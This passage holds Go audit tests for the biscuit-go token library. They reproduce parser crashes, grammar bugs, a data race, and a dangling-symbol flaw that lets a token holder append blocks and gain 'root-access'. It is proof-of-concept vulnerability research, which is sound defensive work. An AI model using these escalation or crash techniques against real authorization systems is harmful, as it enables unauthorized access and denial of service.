	a, err := tok.Authorizer(pub, WithWorldOptions(datalog.WithMaxDuration(5*time.Millisecond), datalog.WithMaxFacts(1000000)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddRule(Rule{
		Head: Predicate{Name: "t", IDs: []Term{Variable("a"), Variable("b"), Variable("c")}},
		Body: []Predicate{
			{Name: "n", IDs: []Term{Variable("a")}},
			{Name: "n", IDs: []Term{Variable("b")}},
			{Name: "n", IDs: []Term{Variable("c")}},
		},
		Expressions: []Expression{{Value{Variable("a")}, Value{Variable("b")}, BinaryAdd, Value{Variable("c")}, BinaryEqual}},
	})
	a.AddPolicy(DefaultAllowPolicy)
	err1 := a.Authorize()
	t.Logf("first: %v", err1)
	a.AddFact(c04Fact("n", Integer(1000)))
	err2 := a.Authorize()
	t.Logf("second: %v", err2)
	time.Sleep(2 * time.Second)
}

// ---------------------------------------------------------------------------------------------
// Not a finding (kept as a guard): two authorizers of the same token evaluated concurrently, for the
// race detector.
// ---------------------------------------------------------------------------------------------
func TestC04ConcurrentAuthorizersSameToken(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	b := NewBuilder(priv)
	_ = b.AddAuthorityFact(c04Fact("right", String("file1"), String("read")))
	_ = b.AddAuthorityRule(Rule{
		Head: Predicate{Name: "can", IDs: []Term{Variable("f")}},
		Body: []Predicate{{Name: "right", IDs: []Term{Variable("f"), Variable("op")}}},
		Expressions: []Expression{{Value{Variable("op")}, Value{String("!")}, BinaryAdd, Value{String("read!")}, BinaryEqual}},
	})
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	bb := tok.CreateBlock()
	_ = bb.AddFact(c04Fact("extra", String("x")))
	_ = bb.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "can", IDs: []Term{Variable("f")}}, {Name: "extra", IDs: []Term{Variable("x")}}}}}})
	tok, err = tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan string, 8)
	for i := 0; i < 8; i++ {
		go func() {
			a, err := tok.Authorizer(pub, c04Limits)
			if err != nil {
				done <- err.Error()
				return
			}
			a.AddPolicy(DefaultAllowPolicy)
			done <- c04Verdict(a.Authorize())
		}()
	}
	for i := 0; i < 8; i++ {
		if got := <-done; got != "allow" {
			t.Errorf("concurrent authorizer %d: %s", i, got)
		}
	}
}
