// Reproducing tests for the C14 audit (Datalog parser denotes exactly the documented grammar and
// never panics). This file belongs in the package directory  parser/  of biscuit-go
// (copy it there as parser/c14_demo_test.go and run
//
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run 'TestC14' -count=1 -v ./parser/
//
// ). Every test FAILS on the unchanged library exactly when the described violation is present.
// TestC14_F01 takes about 50 s and ~1 GB of stack in a child process (set C14_FAST=1 to run it with
// a lowered runtime stack limit in the child instead: same unbounded recursion, ~3 s).
package parser_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"os"
	"os/exec"
	"reflect"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

// ---------------------------------------------------------------------------------------------
// F01  unbounded recursion: deeply nested parentheses kill the process (fatal stack overflow,
//      not recoverable with recover()).
// ---------------------------------------------------------------------------------------------

func TestC14_F01_DeepNestingCrashesProcess(t *testing.T) {
	if os.Getenv("C14_DEEP_CHILD") != "" {
		// child: parse and report; a fatal "stack overflow" never reaches the Println
		depth := 100000
		if os.Getenv("C14_DEEP_CHILD") == "fast" {
			debug.SetMaxStack(64 << 20)
			depth = 20000
		}
		src := "check if " + strings.Repeat("(", depth) + "1" + strings.Repeat(")", depth)
		defer func() {
			if r := recover(); r != nil {
				fmt.Println("C14-CHILD-RECOVERED-PANIC", r)
			}
		}()
		_, err := parser.FromStringCheck(src)
		fmt.Println("C14-CHILD-RETURNED err=", err != nil)
		return
	}
	mode := "full"
	if os.Getenv("C14_FAST") != "" {
		mode = "fast"
	}
	cmd := exec.Command(os.Args[0], "-test.run", "^TestC14_F01_DeepNestingCrashesProcess$", "-test.timeout", "20m")
	cmd.Env = append(os.Environ(), "C14_DEEP_CHILD="+mode)
	out, err := cmd.CombinedOutput()
	s := string(out)
	if len(s) > 600 {
		s = s[:600]
	}
	if !strings.Contains(string(out), "C14-CHILD-RETURNED") {
		t.Errorf("parsing a 200 KB check made of nested parentheses did not return (mode %s): child exit=%v, output starts with:\n%s", mode, err, s)
	}
}

// ---------------------------------------------------------------------------------------------
// F02  integers with a leading zero are read as octal (wrong value), 08 / 09 are rejected
// ---------------------------------------------------------------------------------------------

func TestC14_F02_LeadingZeroIntegerIsOctal(t *testing.T) {
	for src, want := range map[string]int64{
		`f(010)`:  10,
		`f(0777)`: 777,
		`f(007)`:  7,
		`f(08)`:   8,
		`f(0000000000000000000000012)`: 12,
	} {
		f, err := parser.FromStringFact(src)
		if err != nil {
			t.Errorf("%s: base-10 integer rejected: %v", src, err)
			continue
		}
		if got := f.IDs[0]; got != biscuit.Integer(want) {
			t.Errorf("%s: got %v, want %d", src, got, want)
		}
	}
	// same in expressions: `010 == 8` must not be the expression 8 == 8
	c, err := parser.FromStringCheck(`check if 010 == 8`)
	if err == nil {
		if v := c.Queries[0].Expressions[0][0]; v != (biscuit.Value{Term: biscuit.Integer(10)}) {
			t.Errorf("check if 010 == 8: first operand is %v, want 10", v)
		}
	}
}

// ---------------------------------------------------------------------------------------------
// F03  "integer is any base-10 int64": negative integers cannot be written at all
// ---------------------------------------------------------------------------------------------

func TestC14_F03_NegativeIntegersRejected(t *testing.T) {
	if f, err := parser.FromStringFact(`f(-1)`); err != nil {
		t.Errorf("f(-1): %v", err)
	} else if f.IDs[0] != biscuit.Integer(-1) {
		t.Errorf("f(-1): got %v", f.IDs[0])
	}
	if _, err := parser.FromStringFact(`f(-9223372036854775808)`); err != nil {
		t.Errorf("f(-9223372036854775808) (min int64): %v", err)
	}
	if _, err := parser.FromStringCheck(`check if f($i), $i == -1`); err != nil {
		t.Errorf("check if f($i), $i == -1: %v", err)
	}
}

// ---------------------------------------------------------------------------------------------
// F04  a quoted string that starts with hex: is not a string: it becomes Bytes, or an error
// ---------------------------------------------------------------------------------------------

func TestC14_F04_QuotedStringStartingWithHexBecomesBytes(t *testing.T) {
	f, err := parser.FromStringFact(`f("hex:41")`)
	if err != nil {
		t.Errorf(`f("hex:41"): %v`, err)
	} else if f.IDs[0].Type() != biscuit.TermTypeString || f.IDs[0] != biscuit.String("hex:41") {
		t.Errorf(`f("hex:41"): got %#v (type %v), want the string "hex:41"`, f.IDs[0], f.IDs[0].Type())
	}
	if _, err := parser.FromStringFact(`f("hex:zz top")`); err != nil {
		t.Errorf(`f("hex:zz top") is a plain string literal but is rejected: %v`, err)
	}
	c, err := parser.FromStringCheck(`check if f($s), $s.starts_with("hex:")`)
	if err != nil {
		t.Errorf("starts_with(\"hex:\"): %v", err)
	} else if v := c.Queries[0].Expressions[0][1]; v != (biscuit.Value{Term: biscuit.String("hex:")}) {
		t.Errorf(`$s.starts_with("hex:"): argument is %#v, want the string "hex:"`, v)
	}
}

// ---------------------------------------------------------------------------------------------
// F05  string literals are Go-unquoted: GRAMMAR.md's own regex example is rejected, as is every
//      string with a backslash that is not a Go escape; \" cannot be used either
// ---------------------------------------------------------------------------------------------

func TestC14_F05_DocumentedRegexExampleRejected(t *testing.T) {
	// verbatim from GRAMMAR.md, "Regular expression: `$s.matches("^abc\s+def$") `"
	if _, err := parser.FromStringCheck(`check if f($s), $s.matches("^abc\s+def$")`); err != nil {
		t.Errorf("GRAMMAR.md example rejected: %v", err)
	}
	if _, err := parser.FromStringFact(`f("C:\dir")`); err != nil {
		t.Errorf(`f("C:\dir") ("any utf8 character sequence between double quotes"): %v`, err)
	}
}

// ---------------------------------------------------------------------------------------------
// F06  commas between predicate terms are optional; as a consequence malformed byte literals
//      (odd number of digits) are silently split into two terms instead of being reported
// ---------------------------------------------------------------------------------------------

func TestC14_F06_MissingCommasAndMalformedHexAccepted(t *testing.T) {
	for _, src := range []string{
		`f(hex:1)`,      // -> f(hex:, 1)
		`f(hex:123)`,    // -> f(hex:12, 3)
		`f(hex:12true)`, // -> f(hex:12, true)
		`f(1 2)`,        // -> f(1, 2)
		`f(true1)`,      // -> f(true, 1)
		`f("a" "b")`,    // -> f("a", "b")
		`f(2006-01-02T15:04:05Z1)`,
	} {
		if f, err := parser.FromStringFact(src); err == nil {
			t.Errorf("%s is not in the grammar but parses as %v", src, f)
		}
	}
	if r, err := parser.FromStringRule(`g($x) <- f($x, hex:123)`); err == nil {
		t.Errorf("malformed byte literal in a rule body accepted: %v", r.Body)
	}
}

// ---------------------------------------------------------------------------------------------
// F07  nested sets are accepted (literally and through parameters), and a parameter bound to a
//      set containing a variable slips a variable into a set
// ---------------------------------------------------------------------------------------------

func TestC14_F07_NestedSetsAndVariablesInSetsViaParameters(t *testing.T) {
	if f, err := parser.FromStringFact(`f([[1]])`); err == nil {
		t.Errorf("f([[1]]) (sets cannot be nested) parses as %#v", f.IDs)
	}
	if c, err := parser.FromStringCheck(`check if [[1], 2].contains(2)`); err == nil {
		t.Errorf("nested set inside an expression accepted: %#v", c.Queries[0].Expressions)
	}
	if f, err := parser.FromStringFactWithParams(`f([{p}])`, parser.ParametersMap{"p": biscuit.Set{biscuit.Integer(1)}}); err == nil {
		t.Errorf("f([{p}]) with p bound to a set parses as %#v", f.IDs)
	}
	if f, err := parser.FromStringFactWithParams(`f({p})`, parser.ParametersMap{"p": biscuit.Set{biscuit.Variable("x")}}); err == nil {
		t.Errorf("f({p}) with p = [$x] yields a fact with a variable inside a set: %#v", f.IDs)
	}
}

// ---------------------------------------------------------------------------------------------
// F08  Block / Authorizer parsers accept "facts" that contain variables (Parser.Fact rejects
//      them with ErrVariableInFact); such a fact is signed into a token without any error
// ---------------------------------------------------------------------------------------------

func TestC14_F08_BlockAcceptsFactWithVariable(t *testing.T) {
	if _, err := parser.FromStringFact(`f($x)`); err != parser.ErrVariableInFact {
		t.Fatalf("baseline changed: %v", err)
	}
	blk, err := parser.FromStringBlock(`f($x);`)
	if err == nil {
		t.Errorf("FromStringBlock(`f($x);`) accepted a fact containing a variable: %#v", blk.Facts)
		_, priv, _ := ed25519.GenerateKey(rand.Reader)
		b := biscuit.NewBuilder(priv)
		if err := b.AddBlock(blk); err == nil {
			if tok, err := b.Build(); err == nil {
				if _, err := tok.Serialize(); err == nil {
					t.Errorf("... and the builder signed and serialized a token holding the fact f($x)")
				}
			}
		}
	}
	if a, err := parser.FromStringAuthorizer(`f($x); allow if true;`); err == nil {
		t.Errorf("FromStringAuthorizer accepted a fact containing a variable: %#v", a.Block.Facts)
	}
	if blk, err := parser.FromStringBlockWithParams(`f({p});`, parser.ParametersMap{"p": biscuit.Variable("x")}); err == nil {
		t.Errorf("FromStringBlock: parameter bound to a variable inside a fact accepted: %#v", blk.Facts)
	}
}

// ---------------------------------------------------------------------------------------------
// F09  empty parentheses and method calls with the wrong number of arguments are accepted and
//      produce ill-formed postfix expressions (even the empty expression); nothing panics, but
//      the element is not in the grammar and fails only when evaluated
// ---------------------------------------------------------------------------------------------

func TestC14_F09_EmptyParensAndWrongArityAccepted(t *testing.T) {
	for _, src := range []string{
		`check if ()`,               // Expression(nil)
		`check if !()`,              // [Negate]
		`check if 1 + ()`,           // [1, Add]
		`check if "a".contains()`,   // binary op with one operand
		`check if "a".length(1)`,    // unary op with two operands
		`check if "a".length(1, 2)`, // baseline: this one IS rejected
	} {
		c, err := parser.FromStringCheck(src)
		if err != nil {
			continue
		}
		e := c.Queries[0].Expressions[0]
		if !wellFormedPostfix(e) {
			t.Errorf("%s accepted, yields the ill-formed postfix expression %#v", src, e)
		}
	}
	// the accepted element is silently a check that can never succeed
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	tok, err := biscuit.NewBuilder(priv).Build()
	if err != nil {
		t.Fatal(err)
	}
	az, err := tok.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		t.Fatal(err)
	}
	if a, err := parser.FromStringAuthorizer(`allow if ();`); err == nil {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("panic on first use: %v", r)
				}
			}()
			az.AddAuthorizer(a)
			_ = az.Authorize()
		}()
	}
}

func wellFormedPostfix(e biscuit.Expression) bool {
	depth := 0
	for _, op := range e {
		switch op.Type() {
		case biscuit.OpTypeValue:
			depth++
		case biscuit.OpTypeUnary:
			if depth < 1 {
				return false
			}
		case biscuit.OpTypeBinary:
			if depth < 2 {
				return false
			}
			depth--
		}
	}
	return depth == 1
}

// ---------------------------------------------------------------------------------------------
// F10  layout: the keywords are single lexemes with exactly one blank; any other layout between
//      the two words is rejected, and the keyword glues to a following identifier
// ---------------------------------------------------------------------------------------------

func TestC14_F10_KeywordLayout(t *testing.T) {
	want, err := parser.FromStringCheck(`check if f(1)`)
	if err != nil {
		t.Fatal(err)
	}
	for _, src := range []string{"check  if f(1)", "check\tif f(1)", "check\nif f(1)"} {
		got, err := parser.FromStringCheck(src)
		if err != nil {
			t.Errorf("%q: whitespace is elided everywhere else, here: %v", src, err)
		} else if !reflect.DeepEqual(got, want) {
			t.Errorf("%q: %#v", src, got)
		}
	}
	for _, src := range []string{"allow  if true", "deny\tif true"} {
		if _, err := parser.FromStringPolicy(src); err != nil {
			t.Errorf("%q: %v", src, err)
		}
	}
	if c, err := parser.FromStringCheck(`check iff(1)`); err == nil {
		t.Errorf("`check iff(1)` accepted as %v", c.Queries[0].Body)
	}
}

// ---------------------------------------------------------------------------------------------
// F11  predicate names that merely START with a reserved lexeme cannot be parsed
// ---------------------------------------------------------------------------------------------

func TestC14_F11_PredicateNamesWithReservedPrefix(t *testing.T) {
	for _, src := range []string{
		`lengthy(1)`, `length(1)`, `contains_key(1)`, `prefix_of("a")`, `suffixes("a")`, `matches_any("a")`,
		`trueish(1)`, `false_positive(1)`,
	} {
		if _, err := parser.FromStringFact(src); err != nil {
			t.Errorf("%s: %v", src, err)
		}
	}
	// baseline: other method names are fine as predicate names
	for _, src := range []string{`starts_with(1)`, `union(1)`, `or(1)`} {
		if _, err := parser.FromStringFact(src); err != nil {
			t.Fatalf("baseline %s: %v", src, err)
		}
	}
}

// ---------------------------------------------------------------------------------------------
// F12  a typed-nil Term in the ParametersMap makes the parse functions themselves panic
// ---------------------------------------------------------------------------------------------

func TestC14_F12_TypedNilParameterPanicsInParse(t *testing.T) {
	var nilInt *biscuit.Integer // *Integer implements biscuit.Term
	for _, src := range []string{`f({p})`, `f([{p}])`} {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Errorf("FromStringFactWithParams(%s) panicked: %v", src, r)
				}
			}()
			_, _ = parser.FromStringFactWithParams(src, parser.ParametersMap{"p": nilInt})
		}()
	}
}
