// Package directory: repository root (github.com/biscuit-auth/biscuit-go/v2), external test package.
// Copy to <repo>/c02_demo_test.go and run:
//   GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run 'TestC02' -count=1 .
//
// Property C02: if T+B is accepted under authorizer content A then T is accepted under A.
// Every test below builds T, T+B and the same authorizer content for both, and reports (t.Errorf)
// exactly when T is refused while T+B is accepted.
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// c02AppendRaw does what any holder of an unsealed token can do with the wire format alone: it
// takes the next secret out of the proof, signs a block of its own making and appends it.
func c02AppendRaw(t *testing.T, token []byte, block *pb.Block) []byte {
	t.Helper()
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(token, c); err != nil {
		t.Fatal(err)
	}
	seed := c.Proof.GetNextSecret()
	if len(seed) != ed25519.SeedSize {
		t.Fatalf("token is sealed")
	}
	priv := ed25519.NewKeyFromSeed(seed)
	nextPub, nextPriv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := proto.Marshal(block)
	if err != nil {
		t.Fatal(err)
	}
	algo := pb.PublicKey_Ed25519
	algoBytes := make([]byte, 4)
	binary.LittleEndian.PutUint32(algoBytes, uint32(algo))
	toSign := append(append(append([]byte{}, raw...), algoBytes...), nextPub...)
	c.Blocks = append(c.Blocks, &pb.SignedBlock{
		Block:     raw,
		NextKey:   &pb.PublicKey{Algorithm: &algo, Key: nextPub},
		Signature: ed25519.Sign(priv, toSign),
	})
	c.Proof = &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: nextPriv.Seed()}}
	out, err := proto.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// c02Authorize parses the token with the default Unmarshal, verifies the signatures and runs
// Authorize under the authorizer content installed by setup.
func c02Authorize(t *testing.T, token []byte, root ed25519.PublicKey, setup func(a biscuit.Authorizer)) error {
	t.Helper()
	b, err := biscuit.Unmarshal(token)
	if err != nil {
		return err
	}
	a, err := b.AuthorizerFor(biscuit.WithSingularRootPublicKey(root),
		biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		return err
	}
	setup(a)
	return a.Authorize()
}

func c02Str(i uint64) *pb.TermV2 { return &pb.TermV2{Content: &pb.TermV2_String_{String_: i}} }

// Violation 1 (needs nothing but a held token): an earlier block holds a check whose string index is
// past the end of the token's symbol table. In T = authority+B1 that check reads
// resource("<invalid symbol 1025>") and fails; appending B2, whose only content is one new symbol,
// makes index 1025 denote "doc42", the check of B1 becomes true and the refusal becomes an acceptance.
func TestC02DanglingSymbolInEarlierBlockCheck(t *testing.T) {
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)

	builder := biscuit.NewBuilder(rootPriv)
	if err := builder.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{
		Name: "user", IDs: []biscuit.Term{biscuit.String("alice")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := builder.Build()
	if err != nil {
		t.Fatal(err)
	}
	t0, err := tok.Serialize() // symbol table: 1024 = "alice"
	if err != nil {
		t.Fatal(err)
	}

	resource := uint64(2) // default symbol "resource"
	b1 := &pb.Block{
		Version: proto.Uint32(3),
		ChecksV2: []*pb.CheckV2{{Queries: []*pb.RuleV2{{
			Head: &pb.PredicateV2{Name: proto.Uint64(0)},
			Body: []*pb.PredicateV2{{Name: &resource, Terms: []*pb.TermV2{c02Str(1025)}}},
		}}}},
	}
	tokenT := c02AppendRaw(t, t0, b1)

	b2 := &pb.Block{Version: proto.Uint32(3), Symbols: []string{"doc42"}}
	tokenTB := c02AppendRaw(t, tokenT, b2)

	setup := func(a biscuit.Authorizer) {
		a.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{
			Name: "resource", IDs: []biscuit.Term{biscuit.String("doc42")}}})
		a.AddPolicy(biscuit.DefaultAllowPolicy)
	}

	errT := c02Authorize(t, tokenT, rootPub, setup)
	errTB := c02Authorize(t, tokenTB, rootPub, setup)
	t.Logf("T   : %v", errT)
	t.Logf("T+B : %v", errTB)
	if errTB == nil && errT != nil {
		t.Errorf("C02 violated: T refused (%v) but T+B accepted", errT)
	}
}

// Violation 2 (library API only, no hand-made protobuf): the issuer composes the token on top of a
// custom symbol table (WithSymbols), the verifying side parses it with the default Unmarshal. The
// authority fact right(#1026) then points past the end of the table: T carries
// right("<invalid symbol 1026>"). The holder appends, with CreateBlock/Append, a block that merely
// mentions two new strings; the second one lands on index 1026 and the authority fact becomes
// right("root-access"), which the authorizer's allow policy matches.
func TestC02DanglingSymbolInAuthorityResolvedByAppendedBlock(t *testing.T) {
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)

	builder := biscuit.NewBuilder(rootPriv, biscuit.WithSymbols(&datalog.SymbolTable{"s0", "s1"}))
	if err := builder.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{
		Name: "right", IDs: []biscuit.Term{biscuit.String("guest")}}}); err != nil {
		t.Fatal(err)
	}
	issued, err := builder.Build()
	if err != nil {
		t.Fatal(err)
	}
	tokenT, err := issued.Serialize()
	if err != nil {
		t.Fatal(err)
	}

	held, err := biscuit.Unmarshal(tokenT)
	if err != nil {
		t.Fatal(err)
	}
	bb := held.CreateBlock()
	if err := bb.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{
		Name: "note", IDs: []biscuit.Term{biscuit.String("padding"), biscuit.String("root-access")}}}); err != nil {
		t.Fatal(err)
	}
	extended, err := held.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	tokenTB, err := extended.Serialize()
	if err != nil {
		t.Fatal(err)
	}

	setup := func(a biscuit.Authorizer) {
		a.AddPolicy(biscuit.Policy{Kind: biscuit.PolicyKindAllow, Queries: []biscuit.Rule{{
			Head: biscuit.Predicate{Name: "allow"},
			Body: []biscuit.Predicate{{Name: "right", IDs: []biscuit.Term{biscuit.String("root-access")}}},
		}}})
	}

	errT := c02Authorize(t, tokenT, rootPub, setup)
	errTB := c02Authorize(t, tokenTB, rootPub, setup)
	t.Logf("T   : %v", errT)
	t.Logf("T+B : %v", errTB)
	if errTB == nil && errT != nil {
		t.Errorf("C02 violated: T refused (%v) but T+B accepted", errT)
	}
}

// Violation 3 (same root cause, authority block signed by the root key with an out-of-range index,
// e.g. produced by another implementation or a buggy issuer): the appended block chooses what the
// authority fact says.
func TestC02DanglingSymbolInRawAuthority(t *testing.T) {
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)

	right := uint64(4) // default symbol "right"
	authority := &pb.Block{
		Version: proto.Uint32(3),
		FactsV2: []*pb.FactV2{{Predicate: &pb.PredicateV2{Name: &right, Terms: []*pb.TermV2{c02Str(1024)}}}},
	}
	raw, _ := proto.Marshal(authority)
	nextPub, nextPriv, _ := ed25519.GenerateKey(rand.Reader)
	algo := pb.PublicKey_Ed25519
	algoBytes := make([]byte, 4)
	binary.LittleEndian.PutUint32(algoBytes, uint32(algo))
	toSign := append(append(append([]byte{}, raw...), algoBytes...), nextPub...)
	tokenT, err := proto.Marshal(&pb.Biscuit{
		Authority: &pb.SignedBlock{Block: raw, NextKey: &pb.PublicKey{Algorithm: &algo, Key: nextPub},
			Signature: ed25519.Sign(rootPriv, toSign)},
		Proof: &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: nextPriv.Seed()}},
	})
	if err != nil {
		t.Fatal(err)
	}
	tokenTB := c02AppendRaw(t, tokenT, &pb.Block{Version: proto.Uint32(3), Symbols: []string{"root-access"}})

	setup := func(a biscuit.Authorizer) {
		a.AddPolicy(biscuit.Policy{Kind: biscuit.PolicyKindAllow, Queries: []biscuit.Rule{{
			Head: biscuit.Predicate{Name: "allow"},
			Body: []biscuit.Predicate{{Name: "right", IDs: []biscuit.Term{biscuit.String("root-access")}}},
		}}})
	}
	errT := c02Authorize(t, tokenT, rootPub, setup)
	errTB := c02Authorize(t, tokenTB, rootPub, setup)
	t.Logf("T   : %v", errT)
	t.Logf("T+B : %v", errTB)
	if errTB == nil && errT != nil {
		t.Errorf("C02 violated: T refused (%v) but T+B accepted", errT)
	}
}

// Violation 1 again, this time built with the exported API only (no protobuf by hand): NewBlockBuilder
// keeps the caller's table by pointer, so the caller can cut the new symbol off again before Build.
// The resulting block carries a string index one past the end of the table and no symbols, and Append
// accepts it (symbolsBase equals the table length). A second, ordinary block then supplies the symbol.
func TestC02DanglingSymbolInEarlierBlockCheckAPIOnly(t *testing.T) {
	rootPub, rootPriv, _ := ed25519.GenerateKey(rand.Reader)
	builder := biscuit.NewBuilder(rootPriv)
	if err := builder.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{
		Name: "user", IDs: []biscuit.Term{biscuit.String("alice")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := builder.Build()
	if err != nil {
		t.Fatal(err)
	}

	st := datalog.SymbolTable{"junk0"} // any table as long as the token's (1 symbol: "alice")
	bb := biscuit.NewBlockBuilder(&st)
	if err := bb.AddCheck(biscuit.Check{Queries: []biscuit.Rule{{Head: biscuit.Predicate{Name: "query"},
		Body: []biscuit.Predicate{{Name: "resource", IDs: []biscuit.Term{biscuit.String("doc42")}}}}}}); err != nil {
		t.Fatal(err)
	}
	st = st[:1] // forget "doc42": the check keeps index 1025
	tokT, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}

	bb2 := tokT.CreateBlock()
	if err := bb2.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{
		Name: "note", IDs: []biscuit.Term{biscuit.String("doc42")}}}); err != nil {
		t.Fatal(err)
	}
	tokTB, err := tokT.Append(rand.Reader, bb2.Build())
	if err != nil {
		t.Fatal(err)
	}

	setup := func(a biscuit.Authorizer) {
		a.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{
			Name: "resource", IDs: []biscuit.Term{biscuit.String("doc42")}}})
		a.AddPolicy(biscuit.DefaultAllowPolicy)
	}
	rawT, _ := tokT.Serialize()
	rawTB, _ := tokTB.Serialize()
	errT := c02Authorize(t, rawT, rootPub, setup)
	errTB := c02Authorize(t, rawTB, rootPub, setup)
	t.Logf("T   : %v", errT)
	t.Logf("T+B : %v", errTB)
	if errTB == nil && errT != nil {
		t.Errorf("C02 violated: T refused (%v) but T+B accepted", errT)
	}
}
