// C11 audit demonstrations.
//
// Package directory: the repository ROOT (next to authorizer.go). The file is an external
// test package (biscuit_test) so that it can use the text parser as well as the datalog engine.
//
//	cp demo_test.go <repo>/c11_demo_test.go
//	GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run 'TestC11_' -count=1 -v .
//	(add -race for TestC11_WorldMutatedAfterRunReturned to also get the DATA RACE report)
//
// Every test fails (t.Errorf) on the unchanged library exactly when the described violation is present.
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"math"
	"runtime"
	"strings"
	"testing"
	"time"

	biscuit "github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

func c11IsLimitErr(err error) bool {
	return errors.Is(err, datalog.ErrWorldRunLimitTimeout) ||
		errors.Is(err, datalog.ErrWorldRunLimitMaxFacts) ||
		errors.Is(err, datalog.ErrWorldRunLimitMaxIterations)
}

// c11EngineGoroutines returns the stacks, keyed by goroutine header ("goroutine 12"), of the live
// goroutines that were started by the datalog engine (Run worker, combine producer).
func c11EngineGoroutines() map[string]string {
	buf := make([]byte, 1<<24)
	buf = buf[:runtime.Stack(buf, true)]
	res := map[string]string{}
	for _, g := range strings.Split(string(buf), "\n\n") {
		if strings.Contains(g, "datalog.combine.func1") || strings.Contains(g, "datalog.(*World).Run.func1") {
			hdr := g
			if i := strings.Index(g, " ["); i > 0 {
				hdr = g[:i]
			}
			res[hdr] = g
		}
	}
	return res
}

// c11NewEngineGoroutines returns the engine goroutines that are alive now and were not in before.
func c11NewEngineGoroutines(before map[string]string) (n int, stacks string) {
	for id, g := range c11EngineGoroutines() {
		if _, old := before[id]; !old {
			n++
			stacks += g + "\n\n"
		}
	}
	return n, stacks
}

// F1b: the stranded worker keeps WRITING to the world after Run has returned the timeout error:
// the InsertAll at datalog.go:386 is not guarded by the context. The caller that inspects the world
// after the error (Facts(), PrintWorld, a retry of Run/Authorize) reads a slice that is being
// appended to by another goroutine (go test -race reports the data race on this very test).
func TestC11_WorldMutatedAfterRunReturned(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p := syms.Insert("p")
	q := syms.Insert("q")

	w := datalog.NewWorld(
		datalog.WithMaxDuration(30*time.Millisecond),
		datalog.WithMaxFacts(1000000),
		datalog.WithMaxIterations(100),
	)
	const n = 120
	for i := 0; i < n; i++ {
		w.AddFact(datalog.Fact{Predicate: datalog.Predicate{Name: p, Terms: []datalog.Term{datalog.Integer(i)}}})
	}
	// q($0,$1) <- p($0), p($1) : one iteration builds n*n facts (FactSet.Insert is a linear scan, so this takes about a second)
	w.AddRule(datalog.Rule{
		Head: datalog.Predicate{Name: q, Terms: []datalog.Term{datalog.Variable(0), datalog.Variable(1)}},
		Body: []datalog.Predicate{
			{Name: p, Terms: []datalog.Term{datalog.Variable(0)}},
			{Name: p, Terms: []datalog.Term{datalog.Variable(1)}},
		},
	})

	err := w.Run(syms)
	if !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Skipf("machine too fast/slow for this demonstration, Run returned %v", err)
	}
	atReturn := len(*w.Facts())

	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
		if l := len(*w.Facts()); l != atReturn {
			t.Errorf("VIOLATION: world had %d facts when Run returned %q, and %d facts later: the worker goroutine is still mutating the world after Run returned",
				atReturn, err, l)
			break
		}
	}
}

func c11Token(t *testing.T, authority string, blocks ...string) (*biscuit.Biscuit, ed25519.PublicKey) {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := biscuit.NewBuilder(priv)
	pb, err := parser.FromStringBlock(authority)
	if err != nil {
		t.Fatalf("authority: %v", err)
	}
	if err := b.AddBlock(pb); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	for _, src := range blocks {
		bb := tok.CreateBlock()
		pb, err := parser.FromStringBlock(src)
		if err != nil {
			t.Fatalf("block: %v", err)
		}
